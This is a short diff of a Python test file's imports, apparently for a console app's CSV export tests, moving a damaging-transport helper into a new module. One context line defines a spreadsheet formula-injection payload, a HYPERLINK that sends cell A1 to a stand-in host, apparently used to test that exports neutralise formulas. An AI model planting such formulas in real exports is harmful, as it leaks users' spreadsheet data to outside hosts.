@@ -19,10 +19,8 @@ from console.connections import clients
 from console.jobs.models import Job, Row, Secret
 from console.ui.csv import FORMULA
 from tests.console_process import CHECKOUT
-from tests.populated import PopulatedTeam, copied_fleet, list_addresses, populated, seeded_fleet
-from tests.test_malformed_responses import DamagingTransport, change_values
-
-__all__ = ["copied_fleet", "populated", "seeded_fleet"]  # fixtures
+from tests.damage import DamagingTransport, change_values
+from tests.populated import PopulatedTeam, list_addresses
 
 SignIn = Callable[[str], Client]
 EVIL = '=HYPERLINK("evil.test?"&A1)'
